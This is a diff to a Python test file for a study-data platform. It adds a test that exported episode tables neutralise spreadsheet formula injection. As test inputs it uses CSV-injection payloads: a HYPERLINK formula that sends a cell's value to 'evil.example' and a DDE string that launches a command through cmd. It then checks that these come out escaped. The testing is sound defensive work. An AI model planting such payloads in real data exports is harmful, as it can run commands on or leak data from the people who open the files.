@@ -20,6 +20,7 @@ from rose_core.instrument.ids import FakeClock, SequentialIds
 from rose_core.run_import import import_run
 from rose_core.study import StudyConfig, create_study
 from tests.participants import new_session, right_answer, submit_payload
+from tests.sgp_players import sgp_small  # noqa: F401  (the fixture)
 
 ROOT = Path(__file__).resolve().parents[2]
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
@@ -183,3 +184,49 @@ def test_a_study_s_download_keeps_only_its_rows_and_is_neutralised(hostile_db):
     df = table_frame(store, "responses", study.study_id)
     rows = cells(frame_bytes(df, "csv"))
     assert len(rows) == 2 and rows[1][rows[0].index("external_id")] == "'" + EVIL_PID
+
+
+def test_episode_tables_export_as_the_studies_page_downloads_them(store, sgp_small, tmp_path):  # noqa: F811
+    """`export-table --table episode_results|episode_steps`: the frame the Studies page's SGP buttons send, through
+    the one CSV encoder: a typed command a spreadsheet would run is neutralised, times in UTC."""
+    import subprocess
+    import sys
+
+    from rose_core.instrument.episode_session import EpisodeSession, create_sgp_study
+    from rose_core.instrument.session import join
+    from tests.sgp_players import play, solution
+
+    study = create_sgp_study(store, sgp_small, StudyConfig(
+        name="typed", benchmark="sgp", sgp_modality="text", sgp_input="typed", practice_items=0,
+        attention_every=0, items_per_participant=1), ids=SequentialIds("x"), clock=FakeClock())
+    p = join(store, study, "=HYPERLINK(\"http://evil\")", "prolific", None, None, ids=SequentialIds("p"))
+    s = EpisodeSession(store, sgp_small, study, p.participant_id)
+    s.consent()
+    s.finish_instructions()
+    screen = s.screen()
+    play(s, screen, ["=cmd|' /C calc'!A0", *solution(screen)], how="typed")
+    steps = store.query("SELECT server_ts FROM episode_steps ORDER BY run_id, participant_id, view_id, seq")
+    for table in ("episode_results", "episode_steps"):
+        for fmt in ("csv", "parquet"):
+            out = tmp_path / f"{table}.{fmt}"
+            r = subprocess.run([sys.executable, "-m", "rose_core", "export-table", "--db", store.location, "--table",
+                                table, "--format", fmt, "--study", study.study_id, "--out", str(out)],
+                               capture_output=True, text=True, cwd=ROOT)
+            assert r.returncode == 0, r.stderr
+            assert out.read_bytes() == frame_bytes(table_frame(store, table, study.study_id), fmt)  # the page's bytes
+        rows = cells((tmp_path / f"{table}.csv").read_bytes())
+        assert not any(opens_as_formula(c) for row in rows for c in row), table
+        col = {name: [r[k] for r in rows[1:]] for k, name in enumerate(rows[0])}
+        assert set(col["study_id"]) == {study.study_id} and set(col["external_id"]) == {"'=HYPERLINK(\"http://evil\")"}
+        if table == "episode_results":
+            assert len(rows) == 2 and col["passed"] == ["1"] and "submitted_at_utc" in col
+            assert col["steps"] == [str(len(steps))] and col["response"][0].startswith("'=cmd")
+        else:
+            assert len(rows) == len(steps) + 1 and col["command"][0] == "'=cmd|' /C calc'!A0"
+            assert col["outcome"][0] == "illegal" and col["input"] == ["typed"] * len(steps)
+            for text, row in zip(col["server_at_utc"], steps):
+                parsed = datetime.strptime(text, "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc)
+                assert abs(parsed.timestamp() - row["server_ts"]) < 1e-5
+    assert len(table_frame(store, "episode_steps")) == len(steps)                    # every study
+    empty = table_frame(store, "episode_results", "no-such-study")
+    assert empty.empty and "episode_id" in empty.columns                           # a header, no rows
